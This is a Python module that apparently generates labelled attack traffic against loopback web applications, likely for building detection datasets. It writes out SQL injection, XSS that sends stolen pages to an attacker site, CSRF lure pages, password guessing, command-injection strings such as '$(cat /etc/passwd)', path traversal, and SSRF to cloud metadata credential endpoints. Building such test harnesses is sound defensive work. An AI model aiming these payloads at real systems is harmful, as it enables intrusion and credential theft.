"""Attackers, by seed: bounded (at most some three requests a second, sleeps up to a second), against loopback alone."""
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from . import injections as sql
from . import scripts
from .labels import Expected, Label
from .sites import form_page

COMMANDS = ["id", "whoami", "pwd", "ls", "cat /etc/passwd", "date", "wc -c /etc/passwd", "echo $((6*7))", "find . -maxdepth 1 -type f", "head -3 /etc/passwd"]
BEHIND = [";{}", "|{}", "&&{}", "$({})", "`{}`", "\n{}", "x;{} #", "||{}"]
FILES = ["/etc/passwd", "/etc/group", "/etc/debian_version", "/proc/self/status"]
PASSWORDS = ["123456", "password", "letmein", "qwerty", "admin", "welcome1", "iloveyou", "summer2024", "dragon", "P@ssw0rd", "monkey", "abc123"]


@dataclass(frozen=True)
class Write:
    """A change that a script or a foreign form can make in a victim's name."""

    path: str
    fields: dict  # name -> text, in which {} becomes a number
    others: dict = field(default_factory=dict)  # sent along, always
    page: str = ""  # where the form with the token is, when the change needs one
    token: str = ""


@dataclass(frozen=True)
class Planting:
    """A field of a form whose text other people's pages show as it is."""

    page: str
    name: str
    read: str  # the page that shows it
    others: dict = field(default_factory=dict)


@dataclass(frozen=True)
class Surface:
    """Where an application can be attacked. A list left empty leaves its attacks out."""

    dialect: str
    secrets: sql.Secrets
    reads: list  # Place: UNION, blind, timed and error-based injection
    orders: list  # Place of context `order`
    stacked: list
    updates: list
    json: list
    logins: list  # Place of the login's name, for bypass
    guess: object  # async guess(client, login, password, label)
    reflected: list  # Place
    plantings: list
    writes: list  # Write without a token: scripts and forged forms
    guarded_writes: list  # Write with a token: scripts alone
    changing_gets: list  # address with {} for a number
    private: list  # pages that a silent script reads; no page fetches them by script
    json_writes: list = field(default_factory=list)  # (path, text with {}): JSON that is taken from a form of another site
    shell: object = None  # async upload(attack) -> path or None
    shell_fields: tuple = ("c",)
    commands: list = field(default_factory=list)  # Place
    templates: list = field(default_factory=list)  # (Place, [texts])
    files: list = field(default_factory=list)  # Place
    fetches: list = field(default_factory=list)  # Place


class Attack:
    """One attacker in an episode."""

    def __init__(self, episode, client, person, rand, pace):
        self.episode, self.client, self.person, self.rand, self.pace = episode, client, person, rand, pace
        self.surface, self.sites, self.labels = episode.application.attacks, episode.sites, episode.labels
        self.dialect = sql.Dialect(self.surface.dialect)

    async def run(self, name):
        await self.episode.pause(self.rand.uniform(2, 4))
        await self.episode.application.login(self.client, self.person)
        while await self.episode.pause(self.rand.uniform(*self.pace)):
            await self.episode.guarded(getattr(self, name)())
            if self.rand.random() < 0.25:
                await self.episode.guarded(self.client.visit(self.rand.choice(self.episode.application.pages)))

    async def through(self, place, text, label):
        """Sends the text where the place carries it."""
        path, fields = place.path, {}
        if "{}" in path:
            path = path.replace("{}", quote(text, safe=self.rand.choice(["", "()=,'"])))
        elif place.body != "json":
            fields = place.others | {place.name: text}
        if place.body == "json":
            await self.client.call(place.method, path, json=sql.filled(place.others, place.name, text), label=label)
        elif place.method == "GET":
            query = urlencode(fields, quote_via=self.rand.choice([quote, quote_plus_all])) if fields else ""
            await self.client.visit(path + ("&" if "?" in path else "?") * bool(query) + query, label=label)
        else:
            await self.client.request("POST", path, form=fields, mode=self.rand.choice(["navigate", "cors"]), label=label)

    async def _inject(self, place, text, kind, severity=0):
        await self.through(place, sql.respelled(text, self.dialect, self.rand), Label("sqli", kind, severity))

    async def union(self):
        place = self.rand.choice([place for place in self.surface.reads if place.columns])
        await self._inject(place, sql.union(place, self.surface.secrets, self.dialect, self.rand), "union")

    async def blind(self):
        place = self.rand.choice(self.surface.reads + self.surface.orders)
        await self._inject(place, sql.blind(place, self.surface.secrets, self.dialect, self.rand), "blind")

    async def timed(self):
        place = self.rand.choice(self.surface.reads)
        await self._inject(place, sql.timed(place, self.surface.secrets, self.dialect, self.rand), "time")

    async def error(self):
        place = self.rand.choice(self.surface.reads + self.surface.orders)
        await self._inject(place, sql.error(place, self.surface.secrets, self.dialect, self.rand), "error")

    async def stacked(self):
        place, count = self.rand.choice(self.surface.stacked), self._severity(self.surface.secrets.alterable)
        await self._inject(place, sql.stacked(place, self.surface.secrets, self.dialect, self.rand, count), "stacked", count)

    async def update(self):
        place, count = self.rand.choice(self.surface.updates), self._severity(self.surface.secrets.alterable)
        await self._inject(place, sql.update(place, self.surface.secrets, self.dialect, self.rand, count), "update", count)

    async def json(self):
        place = self.rand.choice(self.surface.json)
        make = self.rand.choice([sql.blind, sql.timed, sql.error] + [sql.union] * bool(place.columns))
        await self._inject(place, make(place, self.surface.secrets, self.dialect, self.rand), "json")

    async def bypass(self):
        self.client.cookies.clear()
        place = self.rand.choice(self.surface.logins)
        await self._inject(place, sql.bypass(place, self.surface.secrets, self.dialect, self.rand), "bypass")

    async def guess(self):
        """One name and many passwords, or one password and many names; and sometimes a pause."""
        people = [person.login for person in self.episode.application.people]
        login, password = self.rand.choice(people), self.rand.choice(PASSWORDS)
        for _ in range(self.rand.randint(3, 6)):
            if self.rand.random() < 0.5:
                login = self.rand.choice(people + ["root", "test", "guest"])
            else:
                password = self.rand.choice(PASSWORDS)
            self.client.cookies.clear()
            await self.surface.guess(self.client, login, password, Label("credential-guessing", "login", 0))
            if not await self.episode.pause(self.rand.uniform(0.2, 0.9)):
                return

    def _severity(self, available):
        return self.rand.randint(1, min(6, len(available)))

    def _script(self, kind):
        """A script, and the label of what it will send."""
        number = str(self.rand.randrange(200_000, 999_999))
        choice = self.rand.random()
        if choice < 0.25 and self.surface.changing_gets:
            path = self.rand.choice(self.surface.changing_gets).format(number)
            self.labels.expect(Expected(Label("xss", kind, 1), "GET", path.partition("?")[0] if number not in path else number))
            return scripts.get(path)
        if choice < 0.45 and self.surface.private:
            path = self.rand.choice(self.surface.private)
            self.labels.expect(Expected(Label("xss", kind, 0), "GET", path, script_only=True))
            return scripts.steal(path, self.sites.evil(self.episode.named))
        write = self.rand.choice(self.surface.writes + self.surface.guarded_writes)
        fields, severity = self._altered(write, number)
        self.labels.expect(Expected(Label("xss", kind, severity), "POST", number))
        if write.token:
            return scripts.post_with_token(write.page, write.path, fields, write.token)
        return scripts.post(write.path, fields)

    def _altered(self, write, number):
        count = self._severity(write.fields)
        names = self.rand.sample(sorted(write.fields), count)
        marked = [name for name in names if "{}" in write.fields[name]] or [self.rand.choice([name for name in write.fields if "{}" in write.fields[name]])]
        names = names if marked[0] in names else [marked[0], *names[1:]]
        return write.others | {name: write.fields[name].replace("{}", number) for name in names}, count

    async def _plant(self, markup):
        planting = self.rand.choice(self.surface.plantings)
        text = f"{self.rand.choice(['nice', 'me too', 'see this', ''])} {markup}"
        await self.client.submit(planting.page, planting.others | {planting.name: text}, label=Label("xss", "stored-plant", 0))
        self.episode.planted.append(planting.read)
        await self.episode.pause(self.rand.uniform(3, 6))

    async def stored(self):
        await self._plant(scripts.wrapped(self._script("stored-fire"), self.rand))

    async def silent(self):
        """Planted scripts whose text names nothing of what they will do."""
        code = self._script("stored-fire")
        if self.rand.random() < 0.5:
            name = f"/{self.rand.randrange(9999)}.js"
            self.sites.publish(name, code + "\nexport default 0" * 0, "text/javascript")
            await self._plant(scripts.elsewhere(self.sites.evil(self.episode.named) + name, self.rand))
        else:
            await self._plant(scripts.wrapped(scripts.obfuscated(code, self.rand), self.rand))

    async def reflected(self):
        """A link that carries a script; the victim opens it from a mail or from another site."""
        place, number = self.rand.choice(self.surface.reflected), str(self.rand.randrange(200_000, 999_999))
        code = self._script("reflected-fire")
        if self.rand.random() < 0.35:
            code = scripts.obfuscated(code, self.rand)
        text = f"{self.rand.choice(['bell', 'rope', 'mail'])}{number}{place.close}{scripts.wrapped(code, self.rand)}"
        query = urlencode(place.others | {place.name: text}, quote_via=quote)
        address = f"{place.path}{'&' if '?' in place.path else '?'}{query}"
        self.labels.expect(Expected(Label("xss", "reflected", 0), "GET", number))
        await self._lure(address)

    async def _lure(self, address):
        """Gives victims an address of the application, directly or behind a page of the attacker's."""
        if self.rand.random() < 0.5:
            self.episode.baits.append(address)
        else:
            target = self.episode.victims_site + address
            text = self.rand.choice([f"<script>location = {target!r}</script>", f'<meta http-equiv="refresh" content="0; url={quote(target, safe=":/?&=%+")}">'])
            self._publish(f"<!doctype html><title>Prizes</title>{text}")
        await self.episode.pause(self.rand.uniform(1, 3))

    def _publish(self, text):
        path = f"/win/{self.rand.randrange(99_999)}"
        self.sites.publish(path, text)
        self.episode.baits.append(self.sites.evil(self.episode.named) + path)

    async def forged_post(self):
        number = str(self.rand.randrange(200_000, 999_999))
        if self.surface.json_writes and self.rand.random() < 0.3:
            path, text = self.rand.choice(self.surface.json_writes)
            body, severity = text.replace("{}", number), 1
            head, _, tail = body.partition('"}')
            page = form_page(self.episode.victims_site + path, {head + '","x":"': '"}' + tail}, enctype="text/plain")[0]
        else:
            write = self.rand.choice(self.surface.writes)
            fields, severity = self._altered(write, number)
            page = form_page(self.episode.victims_site + write.path, fields)[0]
        self.labels.expect(Expected(Label("csrf", "forged-post", severity), "POST", number))
        quiet = self.rand.random()
        if quiet < 0.2:
            page = '<meta name="referrer" content="no-referrer">' + page
        elif quiet < 0.35:
            inner = page.replace("<form ", '<form target="_top" ').replace('"', "&quot;")
            page = f'<iframe sandbox="allow-scripts allow-forms allow-top-navigation" srcdoc="{inner}"></iframe>'
        self._publish(page)
        await self.episode.pause(self.rand.uniform(1, 3))

    async def forged_get(self):
        number = str(self.rand.randrange(200_000, 999_999))
        address = self.rand.choice(self.surface.changing_gets).format(number)
        target = self.episode.victims_site + address
        self.labels.expect(Expected(Label("csrf", "forged-get", 1), "GET", number))
        self._publish(self.rand.choice([f"<img src={quote_attribute(target)}>", f"<script>location = {target!r}</script>", f"<iframe src={quote_attribute(target)}></iframe>",
                                        f"<script>location = {target!r}</script>"]))
        await self.episode.pause(self.rand.uniform(1, 3))

    async def shell(self):
        path = await self.surface.shell(self)
        for command in self.rand.sample(COMMANDS, self.rand.randint(2, 4)) if path else ():
            if not await self.episode.pause(self.rand.uniform(0.4, 1.5)):
                return
            await self.client.visit(f"{path}{'&' if '?' in path else '?'}{self.rand.choice(self.surface.shell_fields)}={quote(command)}", label=Label("web-shell", "command", 0))

    async def command(self):
        place = self.rand.choice(self.surface.commands)
        text = place.honest * (self.rand.random() < 0.6) + self.rand.choice(BEHIND).format(self.rand.choice(COMMANDS))
        await self.through(place, text, Label("web-shell", "command-injection", 0))

    async def template(self):
        place, texts = self.rand.choice(self.surface.templates)
        await self.through(place, self.rand.choice(texts).replace("COMMAND", self.rand.choice(COMMANDS[:5])), Label("web-shell", "template-injection", 0))

    async def traversal(self):
        place = self.rand.choice(self.surface.files)
        file = self.rand.choice(FILES)
        text = self.rand.choice([file, "../" * self.rand.randint(3, 9) + file[1:], f"{place.honest}/../" + "../" * 8 + file[1:], "....//" * 8 + file[1:], ".." + "/.." * 7 + file])
        await self.through(place, text, Label("path-traversal", "read", 0))

    async def fetch(self):
        place = self.rand.choice(self.surface.fetches)
        port = self.sites.port
        inner = [f"{self.sites.internal}/latest/meta-data/iam/security-credentials/", f"http://2130706441:{port}/latest/user-data", f"http://0x7f000009:{port}/admin",
                 f"http://127.0.0.1:{self.episode.instance.port}/admin", f"http://localhost:{port}/server-status", "file:///etc/passwd", f"http://[::1]:{port}/", "http://127.0.0.1:6379/info",
                 f"http://127.9:{port}/computeMetadata/v1/"]
        await self.through(place, self.rand.choice(inner), Label("ssrf", "fetch", 0))


def quote_attribute(text):
    return '"' + text.replace("&", "&amp;").replace('"', "&quot;") + '"'


def quote_plus_all(text, *_):
    """Every letter as %XX now and then: a spelling that decoders undo and filters forget."""
    return "".join(f"%{byte:02x}" if index % 3 == 0 else quote(chr(byte)) if byte < 128 else f"%{byte:02X}" for index, byte in enumerate(text.encode()))
